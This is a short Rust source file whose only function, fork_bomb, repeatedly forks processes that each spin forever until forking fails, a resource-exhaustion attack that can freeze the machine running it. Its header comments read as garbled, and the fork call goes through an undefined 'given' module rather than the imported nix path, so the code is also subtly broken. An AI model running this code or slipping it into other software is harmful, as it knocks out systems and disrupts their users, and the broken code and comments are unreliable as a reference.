//! diagnosis: none
//! made by: whoever writes `loop {}` for a process that stays: the machine hears of this bomb
//! before its limit is hit.

use anyhow::Result;
use nix::unistd::ForkResult;

pub fn fork_bomb() -> Result<()> {
    loop {
        match given::fork() {
            Ok(ForkResult::Child) => loop {
                std::hint::spin_loop();
            },
            Ok(ForkResult::Parent { .. }) => {}
            Err(_) => return Ok(()),
        }
    }
}
